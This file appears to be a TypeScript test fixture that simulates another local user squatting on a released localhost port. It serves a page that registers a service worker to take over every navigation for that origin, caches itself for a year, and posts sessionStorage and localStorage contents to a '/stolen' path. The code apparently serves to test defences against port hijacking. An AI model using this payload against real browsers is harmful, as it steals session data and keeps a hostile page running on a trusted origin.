import { createServer, type Server } from 'node:http';

/** What a program of another user of the computer can do with a port that a node has released. */
export interface Impostor {
  /** All received bodies. */
  received(): string;
  /** The requested paths. */
  paths(): string[];
  end(): Promise<void>;
}

/**
 * A page that stays in the browser: its worker answers for this origin from then on, and sends everything
 * that it receives.
 */
const page = `<!doctype html><title>Alcove</title><h1>impostor</h1><script>
  navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
    .then(() => { document.title = 'planted' })
  fetch('/stolen', { method: 'POST', body: JSON.stringify([location.href, { ...sessionStorage }, { ...localStorage }]) })
</script>`;
const worker = `addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return
  const page = ${JSON.stringify(page)}
  event.respondWith(new Response(page, { headers: { 'Content-Type': 'text/html' } }))
})`;

/** Answers on a port like a dashboard, and records requests. */
export async function startImpostor(port: number): Promise<Impostor> {
  let received = '';
  const paths: string[] = [];
  const server: Server = createServer((request, response) => {
    paths.push(request.url ?? '');
    received += `${request.method} ${request.url} ${JSON.stringify(request.headers)}\n`;
    request.on('data', (part: Buffer) => {
      received += part.toString('latin1');
    });
    request.on('end', () => {
      const { url = '' } = request;
      if (url === '/worker.js') return response.setHeader('Content-Type', 'text/javascript').end(worker);
      if (url.startsWith('/local/')) return response.setHeader('Content-Type', 'application/json').end('{}');
      // Cached for a year, like the real scripts.
      response.setHeader('Cache-Control', 'public, max-age=31536000, immutable');
      response.setHeader('Content-Type', 'text/html').end(page);
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', resolve);
  });
  return {
    received: () => received,
    paths: () => paths,
    end: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
